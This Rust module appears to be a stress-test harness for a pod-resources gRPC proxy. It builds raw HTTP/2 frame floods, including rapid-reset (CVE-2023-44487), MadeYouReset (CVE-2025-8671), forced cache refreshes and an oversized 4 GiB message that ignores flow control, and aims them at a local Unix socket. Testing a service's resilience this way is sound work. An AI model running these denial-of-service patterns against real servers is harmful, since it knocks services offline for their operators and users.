//! Calls without end: good ones, dear ones, halves of them.

use std::io;
use std::os::unix::net::UnixStream;
use std::path::Path;

use podresources_proxy::grpc::frame_message;
use podresources_proxy::proto::v1::GetPodResourcesRequest;
use prost::Message as _;

use super::{Attack, GET, LIST, WIDE, WINDOW_UPDATE, drained, greeted, pour, streams};
use crate::frames::{DATA, END_HEADERS, END_STREAM, HEADERS, call, frame, head};

const RST_STREAM: u8 = 3;
/// CANCEL.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
/// Calls that are written together.
const BATCH: usize = 16;

pub(super) fn attacks() -> Vec<Attack> {
    vec![
        Attack::new("requests", 1, |path| each(&mut drained(path)?, |stream| call(stream, LIST, "localhost"))),
        Attack::new("requests-64", 64, |path| each(&mut drained(path)?, |stream| call(stream, LIST, "localhost"))),
        Attack::new("streams", 4, |path| each(&mut drained(path)?, |stream| head(stream, LIST, "localhost"))),
        Attack::new("rapid-reset", 4, rapid_reset),
        Attack::new("reset-by-us", 4, made_to_reset),
        Attack::new("forced-refresh", 4, |path| each(&mut drained(path)?, forced)),
        Attack::new("random-gets", 4, |path| each(&mut drained(path)?, random_get)),
        Attack::new("giant-request", 4, giant),
    ]
}

/// One call after the other, whatever comes back.
fn each(socket: &mut UnixStream, make: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    let mut streams = streams();
    pour(socket, BATCH as u64, || streams.by_ref().take(BATCH).flat_map(&make).collect())
}

/// CVE-2023-44487: opened and given up at once.
fn rapid_reset(path: &Path) -> io::Result<()> {
    each(&mut drained(path)?, |stream| [call(stream, LIST, "localhost"), frame(RST_STREAM, 0, stream, &CANCEL)].concat())
}

/// CVE-2025-8671: an error of the stream's makes the server give it up.
fn made_to_reset(path: &Path) -> io::Result<()> {
    let nothing = 0_u32.to_be_bytes();
    each(&mut drained(path)?, |stream| [head(stream, LIST, "localhost"), frame(WINDOW_UPDATE, 0, stream, &nothing)].concat())
}

/// Each asks for a capture of its own.
fn forced(stream: u32) -> Vec<u8> {
    let mut block = head(stream, LIST, "localhost").split_off(9);
    for (name, value) in [("podresources-max-age", "0s")] {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap());
            block.extend(text.as_bytes());
        }
    }
    [frame(HEADERS, END_HEADERS, stream, &block), frame(DATA, END_STREAM, stream, &[0; 5])].concat()
}

/// Each of a pod that nobody has heard of.
fn random_get(stream: u32) -> Vec<u8> {
    let get = GetPodResourcesRequest { pod_name: format!("pod-{:016x}", rand::random::<u64>()), pod_namespace: "nowhere".into() };
    let message = frame_message(&get.encode_to_vec()).unwrap();
    [head(stream, GET, "localhost"), frame(DATA, END_STREAM, stream, &message)].concat()
}

/// A message of 4 GiB is promised, and sent whatever the windows say.
fn giant(path: &Path) -> io::Result<()> {
    let mut socket = greeted(path, WIDE)?;
    let begin = [head(1, LIST, "localhost"), frame(DATA, 0, 1, &[0, 0xff, 0xff, 0xff, 0xff])].concat();
    let more = frame(DATA, 0, 1, &[0xff; 16 * 1024]);
    let mut first = Some(begin);
    pour(&mut socket, 1, || first.take().unwrap_or_else(|| more.clone()))
}
